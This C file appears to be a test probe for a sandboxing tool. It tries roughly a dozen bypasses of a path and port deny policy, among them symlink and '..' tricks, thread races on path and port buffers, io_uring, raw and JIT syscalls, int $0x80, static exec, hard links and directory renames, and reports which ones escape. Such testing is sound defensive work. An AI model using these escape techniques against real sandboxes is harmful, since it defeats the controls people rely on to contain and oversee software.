/* A hostile program: tries every way around an in-process path and port check, for
 * `sysgate sandbox` with a policy that denies every write under DENIED (writes elsewhere, such
 * as under ALLOWED, are allowed) and TCP connect to 127.0.0.1:PORT.
 *
 *   sandbox_path_attacks DENIED ALLOWED PORT STATIC_WRITER
 *
 * DENIED and ALLOWED are existing directories, ALLOWED not inside DENIED; DENIED/victim, if the
 * caller made it, holds "original\n"; nobody listens on PORT yet; STATIC_WRITER is
 * tests/probes/static_writer.c built with `gcc -static`. Each attempt runs in a fork child, and
 * the parent decides what happened from what it can see afterwards: a new entry in DENIED
 * (every attempt creates a file of its own name), DENIED/victim's content changed, or a
 * connection waiting on the parent's own listener on PORT. A child exits 2 when the attempt
 * could not be made at all (the kernel lacks the interface, the process a capability it needs,
 * or STATIC_WRITER is missing); a refusal on the way (io_uring_setup failing with EPERM, say)
 * counts as denied. The network attempts are skipped when the listener cannot be made.
 * Nothing is ever removed: each attempt has names of its own.
 *
 *   attempt <name>: denied|ESCAPED|skipped
 *   escapes: <k> of <attempts>
 *
 * Ways tried: a plain open(); open() through a symbolic link ALLOWED/link pointing at DENIED
 * (the caller's, if it made one, else made here); a
 * path that goes through ALLOWED and `..`; a relative path after chdir(DENIED), and openat()
 * on an O_PATH descriptor of DENIED; a thread rewriting the path buffer from an allowed to a
 * denied name of the same length, a little later each time, after another thread has put the
 * allowed one in and started open(); openat2(); openat() below a descriptor that
 * open_by_handle_at() made from DENIED's file handle; io_uring (IORING_OP_OPENAT); a raw
 * `syscall` from a fresh JIT page; `int $0x80` with the i386 open; a statically linked program
 * exec'd to create the file. For the network: libc's connect(); a raw `syscall` connect; the
 * same race on the sockaddr's port, from PORT+1 (nobody listens there) to PORT; io_uring
 * (IORING_OP_CONNECT). Last, because they change DENIED: a hard link in ALLOWED to
 * DENIED/victim opened for writing; DENIED renamed into ALLOWED, a file created in it, and
 * renamed back. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static int attempts, escapes;
static const char *denied, *allowed, *writer;
static int port, other_port, listener = -1;
static char victim[64];
static int victim_len = -1; /* DENIED/victim's content before the attempts; -1: none */

static long raw_syscall6(long nr, long a, long b, long c, long d, long e, long f) {
    long r;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(r)
                     : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return r;
}

static long call_gadget(void *g, long nr, long a, long b, long c) {
    long r;
    __asm__ volatile("call *%[g]"
                     : "=a"(r)
                     : [g] "r"(g), "a"(nr), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "r8", "r9", "r10", "memory");
    return r;
}

static long int80(long nr, long b, long c, long d) {
    long r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(b), "c"(c), "d"(d) : "memory");
    return r;
}

/* DIR/NAME, allocated. */
static char *under(const char *dir, const char *name) {
    size_t n = strlen(dir) + strlen(name) + 2;
    char *p = malloc(n);
    if (!p)
        exit(2);
    snprintf(p, n, "%s/%s", dir, name);
    return p;
}

static int opened(long r) {
    if (r >= 0) {
        close((int)r);
        return 1;
    }
    return 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

/* Up to `size` bytes of a file: their count, or -1. */
static int read_small(const char *path, char *buf, int size) {
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    int n = (int)read(fd, buf, size);
    close(fd);
    return n;
}

/* Entries in DENIED (without . and ..), or -1 when it is gone. */
static int entries(void) {
    DIR *d = opendir(denied);
    if (!d)
        return -1;
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d)))
        n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
    closedir(d);
    return n;
}

/* What the parent looks at once the child is gone (`code` is its exit status): 1 when the
 * attack worked. A new entry in DENIED counts as an escape for every attempt. */
typedef int (*verdict)(const char *what, int code);

/* Runs `fn(what)` in a child: it exits 2 when the attempt could not be made. */
static void attempt(const char *name, int (*fn)(const char *), const char *what, verdict escaped) {
    int before = entries();
    fflush(stdout);
    pid_t p = fork();
    if (p < 0) {
        printf("attempt %s: skipped\n", name);
        return;
    }
    if (p == 0)
        _exit(fn(what));
    int st = 0;
    waitpid(p, &st, 0);
    int code = WIFEXITED(st) ? WEXITSTATUS(st) : 0;
    int won = escaped(what, code) || entries() > before;
    if (!won && code == 2) {
        printf("attempt %s: skipped\n", name);
        return;
    }
    attempts++;
    escapes += won;
    printf("attempt %s: %s\n", name, won ? "ESCAPED" : "denied");
}

/* Verdicts. */

static int appeared(const char *what, int code) {
    (void)code;
    struct stat st;
    return lstat(what, &st) == 0;
}

static int victim_changed(const char *what, int code) {
    (void)code;
    char now_[64];
    if (victim_len < 0)
        return 0;
    int n = read_small(what, now_, sizeof now_);
    return n != victim_len || memcmp(now_, victim, n) != 0;
}

static int renamed_into(const char *what, int code) {
    (void)code;
    return appeared(what, 0) || appeared(under(under(allowed, "moved"), "renamed"), 0);
}

/* Connections waiting on the listener: accepted and closed, and counted. */
static int drain(int wait_ms) {
    struct pollfd pfd = {.fd = listener, .events = POLLIN};
    int n = 0, s;
    if (wait_ms)
        poll(&pfd, 1, wait_ms);
    while ((s = accept4(listener, NULL, NULL, SOCK_NONBLOCK | SOCK_CLOEXEC)) >= 0) {
        close(s);
        n++;
    }
    return n;
}

static int connected(const char *what, int code) {
    (void)what;
    return drain(100) > 0 || code == 1;
}

/* File attempts: `what` is the file that appears in DENIED when the attack works. */

static int via_plain(const char *what) { return opened(open(what, O_CREAT | O_WRONLY, 0644)); }

static int via_symlink(const char *what) {
    (void)what;
    char *link = under(allowed, "link");
    /* The caller may have made it beforehand: a link whose making the sandbox never saw. */
    struct stat st;
    if (lstat(link, &st) != 0 && symlink(denied, link) != 0)
        return 0;
    return opened(open(under(link, "viasym"), O_CREAT | O_WRONLY, 0644));
}

static const char *dotdot_path; /* through ALLOWED and `..` to DENIED/dotdot */

static int via_dotdot(const char *what) {
    (void)what;
    return opened(open(dotdot_path, O_CREAT | O_WRONLY, 0644));
}

static int via_chdir(const char *what) {
    (void)what;
    if (chdir(denied) != 0)
        return 0;
    return opened(open("rel", O_CREAT | O_WRONLY, 0644));
}

static int via_dirfd(const char *what) {
    (void)what;
    int dir = open(denied, O_PATH | O_DIRECTORY);
    if (dir < 0)
        return 0;
    return opened(openat(dir, "relat", O_CREAT | O_WRONLY, 0644));
}

/* The races. Before each call the calling thread puts the allowed value in place and bumps
 * race_go; the other thread, on another CPU, waits for that, lets a while pass (a different
 * while each time: 0 to 4095 spins, all of them every 4096 calls) and puts the denied value
 * in, so that some call has its check see the allowed value and the kernel the denied one. */
static volatile unsigned race_go;
static volatile int race_stop;

static void spin(unsigned n) {
    for (volatile unsigned i = 0; i < n; i++)
        ;
}

/* Puts the calling thread on the n-th CPU it may run on (when it may run on more than one). */
static void pin(int n) {
    cpu_set_t all, one;
    if (sched_getaffinity(0, sizeof all, &all) != 0 || CPU_COUNT(&all) < 2)
        return;
    for (int c = 0; c < CPU_SETSIZE; c++)
        if (CPU_ISSET(c, &all) && n-- == 0) {
            CPU_ZERO(&one);
            CPU_SET(c, &one);
            sched_setaffinity(0, sizeof one, &one);
            return;
        }
}

/* Runs `flip` once per race_go, after the swept delay, until race_stop. */
static void flipper(void (*flip)(void)) {
    unsigned seen = race_go, k = 0;
    pin(1);
    while (!race_stop) {
        unsigned g = race_go;
        if (g == seen)
            continue;
        seen = g;
        spin(k);
        k = (k + 13) & 4095;
        flip();
        __asm__ volatile("" ::: "memory");
    }
}

/* The path race: race_buf holds race_a (in ALLOWED) or race_d (in DENIED), both race_len
 * bytes long. */
static char race_buf[PATH_MAX];
static const char *race_a, *race_d;
static size_t race_len;

static void path_to_denied(void) { memcpy(race_buf, race_d, race_len); }

static void *flip_path(void *a) {
    (void)a;
    flipper(path_to_denied);
    return NULL;
}

static int via_race(const char *what) {
    pthread_t t;
    memcpy(race_buf, race_a, race_len + 1);
    if (pthread_create(&t, NULL, flip_path, NULL) != 0)
        return 2;
    pin(0);
    double end = now() + 2;
    for (int i = 0; i < 20000; i++) {
        memcpy(race_buf, race_a, race_len);
        __atomic_store_n(&race_go, i + 1, __ATOMIC_RELEASE);
        opened(open(race_buf, O_CREAT | O_WRONLY, 0644));
        if ((i & 63) == 63 && (access(what, F_OK) == 0 || now() > end))
            break;
    }
    race_stop = 1;
    pthread_join(t, NULL);
    return 0;
}

static int via_openat2(const char *what) {
    struct open_how how = {.flags = O_CREAT | O_WRONLY, .mode = 0644, .resolve = 0};
    return opened(raw_syscall6(437 /* openat2 */, AT_FDCWD, (long)what, (long)&how, sizeof how, 0, 0));
}

/* CAP_DAC_READ_SEARCH in the effective set: what open_by_handle_at needs. */
static int can_read_search(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    unsigned long long caps = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "CapEff: %llx", &caps) == 1)
            break;
    if (f)
        fclose(f);
    return (caps >> 2) & 1;
}

static int via_handle(const char *what) {
    (void)what;
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    int mount_id;
    if (!h)
        return 2;
    h->handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, denied, h, &mount_id, 0) != 0)
        return errno == EOPNOTSUPP || errno == ENOSYS ? 2 : 0;
    /* The mount descriptor: DENIED's parent, on the same file system. */
    char *parent = strdup(denied), *slash = strrchr(parent, '/');
    if (slash)
        *(slash == parent ? slash + 1 : slash) = 0;
    int mfd = open(slash ? parent : ".", O_RDONLY | O_DIRECTORY);
    if (mfd < 0)
        return 2;
    int dir = open_by_handle_at(mfd, h, O_PATH | O_DIRECTORY);
    if (dir < 0)
        return errno == ENOSYS || (errno == EPERM && !can_read_search()) ? 2 : 0;
    return opened(openat(dir, "byhandle", O_CREAT | O_WRONLY, 0644));
}

/* io_uring, by raw syscalls: submits one SQE on a fresh ring and waits for it. 0 with the
 * completion's result in *res, or the -errno of the io_uring_setup or io_uring_enter that
 * failed. */
static long uring_one(const struct io_uring_sqe *sqe, int *res) {
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = raw_syscall6(425 /* io_uring_setup */, 4, (long)&p, 0, 0, 0, 0);
    if (fd < 0)
        return fd;
    size_t sq_size = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_size = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    size_t sqes_size = p.sq_entries * sizeof(struct io_uring_sqe);
    int rw = PROT_READ | PROT_WRITE;
    unsigned char *sq = mmap(NULL, sq_size, rw, MAP_SHARED, fd, IORING_OFF_SQ_RING);
    unsigned char *cq = mmap(NULL, cq_size, rw, MAP_SHARED, fd, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, sqes_size, rw, MAP_SHARED, fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED)
        return -ENOMEM;
    unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
    unsigned mask = *(unsigned *)(sq + p.sq_off.ring_mask);
    unsigned *array = (unsigned *)(sq + p.sq_off.array);
    unsigned t = *tail;
    sqes[0] = *sqe;
    array[t & mask] = 0;
    __atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
    long r = raw_syscall6(426 /* io_uring_enter */, fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0);
    if (r < 0)
        return r;
    unsigned head = *(unsigned *)(cq + p.cq_off.head);
    unsigned cmask = *(unsigned *)(cq + p.cq_off.ring_mask);
    if (__atomic_load_n((unsigned *)(cq + p.cq_off.tail), __ATOMIC_ACQUIRE) == head)
        return -EAGAIN;
    *res = ((struct io_uring_cqe *)(cq + p.cq_off.cqes))[head & cmask].res;
    return 0;
}

/* kernel.io_uring_disabled = 2: no io_uring for anyone, sandboxed or not. */
static int io_uring_off(void) {
    char c = 0;
    return read_small("/proc/sys/kernel/io_uring_disabled", &c, 1) == 1 && c == '2';
}

static int via_uring_open(const char *what) {
    if (io_uring_off())
        return 2;
    struct io_uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_OPENAT;
    sqe.fd = AT_FDCWD;
    sqe.addr = (uintptr_t)what;
    sqe.len = 0644;
    sqe.open_flags = O_CREAT | O_WRONLY;
    int res = -1;
    long r = uring_one(&sqe, &res);
    if (r == -ENOSYS)
        return 2;
    return r == 0 && opened(res);
}

static int via_jit(const char *what) {
    unsigned char code[] = {0xb8, SYS_open, 0, 0, 0, 0x0f, 0x05, 0xc3}; /* mov $2,%eax; syscall; ret */
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED)
        return 2;
    memcpy(page, code, sizeof code);
    if (mprotect(page, 4096, PROT_READ | PROT_EXEC) != 0)
        return 0;
    return opened(call_gadget(page, SYS_open, (long)what, O_CREAT | O_WRONLY, 0644));
}

static void no_int80(int sig) {
    (void)sig;
    _exit(2); /* without ia32 emulation `int $0x80` faults: nothing to attempt */
}

static int via_int80(const char *what) {
    size_t n = strlen(what);
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED || n >= 4096)
        return 2;
    memcpy(low, what, n + 1);
    signal(SIGSEGV, no_int80);
    long r = int80(5 /* i386 open */, (long)(uintptr_t)low, O_CREAT | O_WRONLY, 0644);
    if (r == -ENOSYS)
        return 2;
    return opened(r);
}

static int via_static(const char *what) {
    char *argv[] = {(char *)writer, (char *)what, NULL};
    if (access(writer, X_OK) != 0)
        return 2;
    execve(writer, argv, environ);
    return 0;
}

/* Network attempts: the listener on PORT tells. */

static struct sockaddr_in loopback(int p) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(p);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    return a;
}

/* A TCP socket whose connect gives up after 200 ms (rather than wait on a full backlog). */
static int tcp_socket(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval tv = {0, 200000};
    if (s >= 0)
        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    return s;
}

/* 1 when connect returned 0 and the peer is PORT; closes the socket. */
static int reached(int s, long r) {
    struct sockaddr_in peer;
    socklen_t len = sizeof peer;
    int hit = r == 0 && getpeername(s, (struct sockaddr *)&peer, &len) == 0 && ntohs(peer.sin_port) == port;
    close(s);
    return hit;
}

static int via_tcp_libc(const char *what) {
    (void)what;
    struct sockaddr_in a = loopback(port);
    int s = tcp_socket();
    return s >= 0 && reached(s, connect(s, (struct sockaddr *)&a, sizeof a));
}

static int via_tcp_raw(const char *what) {
    (void)what;
    struct sockaddr_in a = loopback(port);
    int s = tcp_socket();
    return s >= 0 && reached(s, raw_syscall6(SYS_connect, s, (long)&a, sizeof a, 0, 0, 0));
}

/* The port race: race_to's port is other_port (allowed) or PORT. */
static struct sockaddr_in race_to;

static void port_to_denied(void) { race_to.sin_port = htons(port); }

static void *flip_port(void *a) {
    (void)a;
    flipper(port_to_denied);
    return NULL;
}

static int via_tcp_race(const char *what) {
    (void)what;
    pthread_t t;
    race_to = loopback(other_port);
    if (pthread_create(&t, NULL, flip_port, NULL) != 0)
        return 2;
    pin(0);
    double end = now() + 2;
    int won = 0;
    for (int i = 0; i < 20000 && !won && now() < end; i++) {
        int s = tcp_socket();
        if (s < 0)
            break;
        race_to.sin_port = htons(other_port);
        __atomic_store_n(&race_go, i + 1, __ATOMIC_RELEASE);
        won = reached(s, connect(s, (struct sockaddr *)&race_to, sizeof race_to));
    }
    race_stop = 1;
    pthread_join(t, NULL);
    return won;
}

static int via_tcp_uring(const char *what) {
    (void)what;
    if (io_uring_off())
        return 2;
    struct sockaddr_in a = loopback(port);
    int s = tcp_socket();
    if (s < 0)
        return 0;
    struct io_uring_sqe sqe;
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_CONNECT;
    sqe.fd = s;
    sqe.addr = (uintptr_t)&a;
    sqe.off = sizeof a; /* addr2: the address length */
    int res = -1;
    long r = uring_one(&sqe, &res);
    if (r == -ENOSYS)
        return 2;
    return reached(s, r == 0 ? res : -1);
}

static void tcp_attempt(const char *name, int (*fn)(const char *)) {
    if (listener < 0) {
        printf("attempt %s: skipped\n", name);
        return;
    }
    drain(0);
    attempt(name, fn, NULL, connected);
}

/* Last: these change DENIED. */

static int via_hardlink(const char *what) {
    char *hl = under(allowed, "hl");
    if (access(what, F_OK) != 0)
        return 2;
    if (link(what, hl) != 0)
        return 0;
    int fd = open(hl, O_WRONLY | O_TRUNC);
    if (fd < 0)
        return 0;
    int ok = write(fd, "pwned\n", 6) == 6;
    close(fd);
    return ok;
}

static int via_rename(const char *what) {
    (void)what;
    char *moved = under(allowed, "moved");
    if (rename(denied, moved) != 0)
        return 0;
    int r = opened(open(under(moved, "renamed"), O_CREAT | O_WRONLY, 0644));
    rename(moved, denied); /* back, for whoever looks at DENIED next */
    return r;
}

/* Drops trailing slashes (but keeps "/"). */
static char *trim(char *p) {
    size_t n = strlen(p);
    while (n > 1 && p[n - 1] == '/')
        p[--n] = 0;
    return p;
}

/* "race" padded with 'x' to make DIR/NAME `len` bytes long. */
static char *race_name(const char *dir, size_t len) {
    char name[PATH_MAX] = "race";
    size_t pad = len - strlen(dir);
    memset(name + 4, 'x', pad);
    name[4 + pad] = 0;
    return under(dir, name);
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    char *end = NULL;
    long p = argc == 5 ? strtol(argv[3], &end, 10) : 0;
    if (argc != 5 || *end || p < 1 || p > 65535 || strlen(argv[1]) > 1024 || strlen(argv[2]) > 1024) {
        fprintf(stderr, "usage: %s DENIED ALLOWED PORT STATIC_WRITER\n", argv[0]);
        return 2;
    }
    denied = trim(argv[1]);
    allowed = trim(argv[2]);
    port = (int)p;
    other_port = port < 65535 ? port + 1 : port - 1;
    writer = argv[4];
    victim_len = read_small(under(denied, "victim"), victim, sizeof victim);

    /* Through ALLOWED and `..`: ALLOWED/../<DENIED's name> for siblings, else up to / and
     * down again. */
    const char *dbase = strrchr(denied, '/'), *abase = strrchr(allowed, '/');
    char *dots;
    if (dbase && abase && dbase - denied == abase - allowed && !strncmp(denied, allowed, dbase - denied)) {
        dots = under(allowed, "..");
        dots = under(dots, dbase + 1);
    } else {
        dots = strdup(allowed);
        for (const char *c = allowed; *c; c++)
            if (*c == '/' && c[1] && c[1] != '/')
                dots = under(dots, "..");
        dots = under(dots, denied[0] == '/' ? denied + 1 : denied);
    }
    dotdot_path = under(dots, "dotdot");

    size_t longer = strlen(denied) > strlen(allowed) ? strlen(denied) : strlen(allowed);
    race_d = race_name(denied, longer);
    race_a = race_name(allowed, longer);
    race_len = strlen(race_d);

    struct sockaddr_in at = loopback(port);
    int one = 1;
    listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (listener >= 0 && (setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one) != 0 ||
                          bind(listener, (struct sockaddr *)&at, sizeof at) != 0 ||
                          listen(listener, 64) != 0)) {
        close(listener);
        listener = -1;
    }

    attempt("plain", via_plain, under(denied, "plain"), appeared);
    attempt("symlink", via_symlink, under(denied, "viasym"), appeared);
    attempt("dotdot", via_dotdot, under(denied, "dotdot"), appeared);
    attempt("chdir", via_chdir, under(denied, "rel"), appeared);
    attempt("openat-dirfd", via_dirfd, under(denied, "relat"), appeared);
    attempt("race", via_race, race_d, appeared);
    attempt("openat2", via_openat2, under(denied, "oa2"), appeared);
    attempt("open_by_handle_at", via_handle, under(denied, "byhandle"), appeared);
    attempt("io_uring", via_uring_open, under(denied, "uring"), appeared);
    attempt("jit", via_jit, under(denied, "jit"), appeared);
    attempt("int80", via_int80, under(denied, "int80"), appeared);
    attempt("static-exec", via_static, under(denied, "static"), appeared);
    tcp_attempt("tcp-libc", via_tcp_libc);
    tcp_attempt("tcp-raw", via_tcp_raw);
    tcp_attempt("tcp-race", via_tcp_race);
    tcp_attempt("tcp-uring", via_tcp_uring);
    attempt("hardlink", via_hardlink, under(denied, "victim"), victim_changed);
    attempt("rename-parent", via_rename, under(denied, "renamed"), renamed_into);
    printf("escapes: %d of %d\n", escapes, attempts);
    return 0;
}
